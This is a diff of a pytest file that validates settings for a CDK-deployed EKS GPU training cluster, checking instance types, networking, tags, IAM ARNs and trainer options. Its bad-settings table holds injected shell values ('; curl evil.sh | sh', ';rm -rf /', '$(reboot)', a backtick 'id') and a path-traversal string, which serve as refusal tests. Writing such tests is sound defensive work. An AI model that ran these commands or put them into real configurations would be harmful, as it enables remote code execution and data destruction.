@@ -9,7 +9,10 @@ import sys
 
 import pytest
 
-from stacks.settings import Settings, SettingsError, image_is_pinned, settings_from_context
+from aws_cdk.assertions import Template
+
+from stacks.settings import (Settings, SettingsError, access_entry_principal, image_is_pinned, settings_from_context,
+                             settings_from_files, trainer_options)
 from tests.conftest import ROOT, base_context
 
 
@@ -39,43 +42,177 @@ def test_cdk_owned_context_keys_are_ignored():
 
 
 BAD_SETTINGS = [
+    # instance types
     ({"gpu_instance_type": "g4dn.xlarge"}, r"gpu_instance_type: g4dn.xlarge does not support EFA"),
     ({"gpu_instance_type": "g9.huge"}, r"gpu_instance_type: 'g9.huge' is not in the instance table"),
     ({"gpu_instance_type": "m7i.xlarge"}, r"gpu_instance_type: m7i.xlarge has no GPU"),
     ({"system_instance_type": "g6.12xlarge"}, r"system_instance_type: .* must be a CPU type"),
+    # where
+    ({"region": "mars-1"}, r"region: 'mars-1' is not an AWS region"),
+    ({"region": "us-east-9"}, r"region: 'us-east-9' is not an AWS region"),
     ({"gpu_availability_zone": "us-west-2a"}, r"gpu_availability_zone: 'us-west-2a' must be one of availability_zones"),
     ({"availability_zones": ["us-east-2a", "eu-west-1b"]}, r"availability_zones: 'eu-west-1b' is not an AZ of region us-east-2"),
-    ({"availability_zones": ["us-east-2a"]}, r"availability_zones: need two or more distinct AZs"),
-    ({"gpu_node_count": 0}, r"gpu_node_count: 0 must be between 1 and 64"),
-    ({"gpu_node_count": "two"}, r"gpu_node_count: expected an integer, got 'two'"),
-    ({"gpu_node_count": 2.5}, r"gpu_node_count: expected an integer, got 2.5"),
-    ({"kubernetes_version": "1.29"}, r"kubernetes_version: EKS can no longer create 1.29 \(extended support ended 2026-03-23\)"),
-    ({"kubernetes_version": "1.35"}, r"kubernetes_version: 1.35 has no matching kubectl layer installed"),
-    ({"kubernetes_version": "2.0"}, r"kubernetes_version: '2.0' is not a version EKS creates"),
+    ({"availability_zones": ["us-east-2a"]}, r"availability_zones: need two to 6 distinct AZs"),
+    ({"availability_zones": ["us-east-2a", "us-east-2a"]}, r"availability_zones: need two to 6 distinct AZs"),
+    ({"availability_zones": [f"us-east-2{c}" for c in "abcdefg"]}, r"availability_zones: need two to 6 distinct AZs"),
+    ({"availability_zones": "us-east-2a,7"}, r"availability_zones: '7' is not an AZ of region us-east-2"),
+    ({"account": "12345"}, r"account: '12345' must be 12 digits or null"),
+    ({"stack_name": "1stack"}, r"stack_name: '1stack' must start with a letter"),
+    ({"stack_name": "a" * 101}, r"stack_name: 'a+' must start with a letter .* at most 100 characters"),
+    ({"stack_name": "my_stack"}, r"stack_name: 'my_stack' must start with a letter and hold only letters, digits and '-'"),
+    # network
     ({"vpc_cidr": "10.0.0.0/33"}, r"vpc_cidr: '10.0.0.0/33' is not an IPv4 CIDR"),
     ({"vpc_cidr": "10.0.0.0/24"}, r"vpc_cidr: '10.0.0.0/24' must have a prefix between /16 and /20"),
     ({"vpc_cidr": "10.0.0.1/16"}, r"vpc_cidr: '10.0.0.1/16' is not an IPv4 CIDR"),
-    ({"capacity_reservation_id": "cr-123"}, r"capacity_reservation_id: 'cr-123' must look like cr-0123456789abcdef0"),
-    ({"placement_group": "maybe"}, r"placement_group: 'maybe' must be one of auto, on, off"),
+    ({"vpc_cidr": "169.254.0.0/16"}, r"vpc_cidr: '169.254.0.0/16' overlaps a range AWS refuses"),
+    ({"vpc_cidr": "fd00::/64"}, r"vpc_cidr: 'fd00::/64' is not an IPv4 CIDR"),
+    ({"nat_gateways": 3}, r"nat_gateways: 3 must be between 1 and the number of AZs \(2\)"),
+    ({"nat_gateways": 0}, r"nat_gateways: 0 must be between 1 and the number of AZs"),
+    # cluster
+    ({"kubernetes_version": "1.29"}, r"kubernetes_version: EKS can no longer create 1.29 \(extended support ended 2026-03-23\)"),
+    ({"kubernetes_version": "1.35"}, r"kubernetes_version: 1.35 has no matching kubectl layer installed"),
+    ({"kubernetes_version": "2.0"}, r"kubernetes_version: '2.0' is not a version EKS creates"),
+    ({"kubernetes_version": 1.36}, r"kubernetes_version: expected a string, got 1.36"),
     ({"endpoint_access": "open"}, r"endpoint_access: 'open' must be one of public, private, public_and_private"),
     ({"endpoint_public_cidrs": []}, r"endpoint_public_cidrs: a public endpoint needs at least one CIDR"),
     ({"endpoint_public_cidrs": ["1.2.3.4/40"]}, r"endpoint_public_cidrs: '1.2.3.4/40' is not an IPv4 CIDR"),
     ({"admin_principal_arn": "admin"}, r"admin_principal_arn: 'admin' must be an IAM role or user ARN"),
-    ({"account": "12345"}, r"account: '12345' must be 12 digits or null"),
-    ({"region": "mars-1"}, r"region: 'mars-1' is not a region name"),
-    ({"nat_gateways": 3}, r"nat_gateways: 3 must be between 1 and the number of AZs \(2\)"),
+    ({"admin_principal_arn": "arn:aws:sts::123456789012:federated-user/bob"},
+     r"admin_principal_arn: .* is a federated-user, which EKS access entries do not take"),
+    ({"admin_principal_arn": "arn:aws:iam::123456789012:root"}, r"admin_principal_arn: .* is a root, which EKS access entries"),
+    ({"admin_principal_arn": "arn:aws:iam::123456789012:group/admins"}, r"admin_principal_arn: .* is a group"),
+    ({"admin_principal_arn": "arn:aws-cn:iam::123456789012:role/admin"},
+     r"admin_principal_arn: .* is in partition aws-cn, region us-east-2 in aws"),
+    # nodes
+    ({"gpu_node_count": 0}, r"gpu_node_count: 0 must be between 1 and 64"),
+    ({"gpu_node_count": 65}, r"gpu_node_count: 65 must be between 1 and 64"),
+    ({"gpu_node_count": "two"}, r"gpu_node_count: expected an integer, got 'two'"),
+    ({"gpu_node_count": 2.5}, r"gpu_node_count: expected an integer, got 2.5"),
+    ({"gpu_node_count": True}, r"gpu_node_count: expected an integer, got True"),
+    ({"system_node_count": 0}, r"system_node_count: 0 must be between 1 and 10"),
+    ({"system_node_disk_gib": 20}, r"system_node_disk_gib: 20 must be between 50 and 16384"),
     ({"gpu_node_disk_gib": 20}, r"gpu_node_disk_gib: 20 must be between 100 and 16384"),
     ({"gpu_node_taint": "sometimes"}, r"gpu_node_taint: expected true or false"),
-    ({"tags": {"aws:owner": "x"}}, r"tags: 'aws:owner' must be 1-128 characters, not start with 'aws:'"),
+    ({"capacity_reservation_id": "cr-123"}, r"capacity_reservation_id: 'cr-123' must look like cr-0123456789abcdef0"),
+    ({"placement_group": "maybe"}, r"placement_group: 'maybe' must be one of auto, on, off"),
+    ({"log_retention_days": 10}, r"log_retention_days: 10 is not a CloudWatch retention; allowed: 1, 3, 5, 7, 14, 30"),
+    # tags (AWS tag rules)
+    ({"tags": {"aws:owner": "x"}}, r"tags: 'aws:owner' may not start with 'aws:'"),
+    ({"tags": {"AWS:owner": "x"}}, r"tags: 'AWS:owner' may not start with 'aws:'"),
+    ({"tags": {"k" * 129: "x"}}, r"tags: 'k+' must be 1-128 characters"),
+    ({"tags": {"team": "v" * 257}}, r"tags: 'team' must be 1-128 characters with a value of at most 256"),
+    ({"tags": {"cost;center": "x"}}, r"tags: 'cost;center' may hold only letters, digits, spaces"),
+    ({"tags": {f"k{i}": "v" for i in range(51)}}, r"tags: 51 tags; AWS allows at most 50"),
+    ({"tags": "team=ml"}, r"tags: expected JSON, got 'team=ml'"),
+    ({"tags": {"team": 5}}, r"tags: expected an object of string values"),
+    # unknown keys
     ({"gpu_nodes": 2}, r"gpu_nodes: unknown setting; known settings: "),
+    ({"worker_gpus": 4}, r"worker_gpus: unknown setting"),
+    ({"training.stepz": 5}, r"training.stepz: unknown setting"),
+    ({"training": "steps=5"}, r"training: expected a JSON object"),
+    # training: the cluster's own limits
+    ({"training.image": "ray"}, r"training.image: 'ray' must be registry/repository:tag"),
+    ({"training.image": "rayproject/ray:2.58.0;rm -rf /"}, r"training.image: .* must be registry/repository:tag"),
+    ({"training.active_deadline_seconds": 0}, r"training.active_deadline_seconds: 0 must be between 60 and 604800"),
+    ({"training.backoff_limit": -1}, r"training.backoff_limit: -1 must be between 0 and 10"),
+    ({"training.backoff_limit": 11}, r"training.backoff_limit: 11 must be between 0 and 10"),
+    ({"training.max_failures": -1}, r"training.max_failures: -1 must be between 0 and 100"),
+    # training: what the trainer itself refuses, named by the setting
+    ({"training.steps": "many"}, r"training.steps: expected an integer, got 'many'"),
+    ({"training.steps": 0}, r"training.steps: 0 must be between 1 and 10,000,000"),
+    ({"training.steps": 10**9}, r"training.steps: 1000000000 must be between 1 and 10,000,000"),
+    ({"training.micro_batch": 0}, r"training.micro_batch: 0 must be between 1 and 4096"),
+    ({"training.grad_accum": 0}, r"training.grad_accum: 0 must be between 1 and 65536"),
+    ({"training.learning_rate": 0}, r"training.learning_rate: 0.0 must be in \(0, 1\)"),
+    ({"training.learning_rate": "fast"}, r"training.learning_rate: expected a number, got 'fast'"),
+    ({"training.seq_len": 4}, r"training.seq_len: 4 must be between 8 and 131072"),
+    ({"training.seq_len": 65536}, r"training.seq_len: 65536 exceeds Qwen/Qwen2.5-1.5B's 32768 positions"),
+    ({"training.checkpoint_every": 500}, r"training.checkpoint_every: 500 must be between 0 \(only at the end\) and the number of steps \(200\)"),
+    ({"training.loss_chunk_tokens": 0}, r"training.loss_chunk_tokens: 0 must be between 1 and"),
+    ({"gpu_node_count": 64, "gpu_instance_type": "p5.48xlarge", "training.steps": 5, "training.checkpoint_every": 0}, None),
+    ({"training.model": "no such model"}, r"training.model: 'no such model' is not a built-in"),
+    ({"training.model": "../../etc/passwd"}, None),
+    ({"training.model": "Qwen/../../x"}, r"training.model: 'Qwen/../../x' is not a built-in"),
+    ({"training.model": "s3://"}, r"training.model: 's3://' must be s3://bucket/prefix with a valid bucket name"),
+    ({"training.data": "gs://bucket/x.jsonl"}, r"training.data: 'gs://bucket/x.jsonl' must be a local path, file:// or s3://bucket/prefix"),
+    ({"training.data": "s3:///train.jsonl"}, r"training.data: 's3:///train.jsonl' must be s3://bucket/prefix with a valid bucket name"),
+    ({"training.data": "s3://My_Bucket/x.jsonl"}, r"training.data: .* with a valid bucket name"),
+    ({"training.data": "/data/train.csv"}, r"training.data: '/data/train.csv' must be random, pattern, a .jsonl/.json/.parquet file"),
+    ({"training.data": "/data/x.jsonl; curl evil.sh | sh"}, r"training.data: .* \(no spaces or shell characters\)"),
+    ({"training.data": "$(reboot)"}, r"training.data: .* \(no spaces or shell characters\)"),
+    ({"training.data": "/data/`id`.jsonl"}, r"training.data: .* \(no spaces or shell characters\)"),
+    ({"training.data": ""}, r"training.data: '' may hold only"),
+    ({"training.require_efa": "maybe"}, r"training.require_efa: expected true or false"),
 ]
-
-
 @pytest.mark.parametrize("overrides,message", BAD_SETTINGS, ids=[next(iter(o)) + "-" + str(i) for i, (o, _) in enumerate(BAD_SETTINGS)])
 def test_bad_setting_is_refused_with_one_line(overrides, message):
+    if message is None:  # accepted on purpose: a path is the trainer's to find (a pod path), a large cluster is fine
+        settings_from_context(base_context() | overrides)
+        return
     with pytest.raises(SettingsError, match=message) as error:
         settings_from_context(base_context() | overrides)
     assert "\n" not in str(error.value)
+
+
+@pytest.mark.parametrize("arn,converted", [
+    ("arn:aws:sts::123456789012:assumed-role/Admin/alice@example.com", "arn:aws:iam::123456789012:role/Admin"),
+    ("arn:aws-us-gov:sts::123456789012:assumed-role/ops/i-0abc", "arn:aws-us-gov:iam::123456789012:role/ops"),
+])
+def test_assumed_role_session_becomes_its_role(arn, converted):
+    principal, note = access_entry_principal(arn)
+    assert principal == converted
+    assert note.startswith(f"admin_principal_arn: the STS session {arn} became {converted}")
+    assert "aws iam get-role" in note
+
+
+@pytest.mark.parametrize("arn", ["arn:aws:iam::123456789012:role/platform/admin", "arn:aws:iam::123456789012:user/alice"])
+def test_iam_role_and_user_arns_pass_unchanged(arn):
+    assert access_entry_principal(arn) == (arn, None)
+
+
+def test_converted_admin_arn_reaches_the_access_entry_with_a_warning():
+    from aws_cdk.assertions import Annotations, Match
+
+    from tests.conftest import synth_stack
+
+    stack = synth_stack(admin_principal_arn="arn:aws:sts::123456789012:assumed-role/Admin/alice")
+    entries = [r for r in Template.from_stack(stack).find_resources("AWS::EKS::AccessEntry").values()
+               if r["Properties"]["PrincipalArn"] == "arn:aws:iam::123456789012:role/Admin"]
+    assert len(entries) == 1
+    Annotations.from_stack(stack).has_warning("*", Match.string_like_regexp("the STS session .* became .*role/Admin"))
+
+
+def test_cdk_json_that_is_not_json_is_one_line(tmp_path):
+    bad = tmp_path / "cdk.json"
+    bad.write_text("{ not json")
+    with pytest.raises(SettingsError, match=r"cdk.json: not JSON \(Expecting property name enclosed in double quotes at line 1\)"):
+        settings_from_files(bad)
+    with pytest.raises(SettingsError, match=r": no such file"):
+        settings_from_files(tmp_path)  # a folder
+    (tmp_path / "list.json").write_text("[1, 2]")
+    with pytest.raises(SettingsError, match=r"expected a JSON object with a \"context\" object"):
+        settings_from_files(tmp_path / "list.json")
+
+
+def test_override_without_equals_is_refused():
+    with pytest.raises(SettingsError, match=r"-c 'gpu_node_count': expected key=value"):
+        settings_from_files(ROOT / "cdk.json", ["gpu_node_count"])
+
+
+def test_trainer_options_are_the_training_settings_under_the_trainers_names():
+    options = trainer_options(settings_from_context(base_context()))
+    assert options["lr"] == 2e-5 and "learning_rate" not in options
+    assert options["workers"] == 8 and options["require_efa"] is True
+    assert not {"image", "active_deadline_seconds", "backoff_limit", "checkpoint_bucket_auto_delete"} & set(options)
+
+
+def test_every_trainer_option_setting_names_a_real_trainer_option():
+    import dataclasses
+
+    from training.config import TrainConfig
+
+    trainer_fields = {f.name for f in dataclasses.fields(TrainConfig)}
+    assert set(trainer_options(settings_from_context(base_context()))) <= trainer_fields
 
 
 def test_bad_setting_from_cdk_cli_prints_one_line_and_no_traceback(tmp_path):
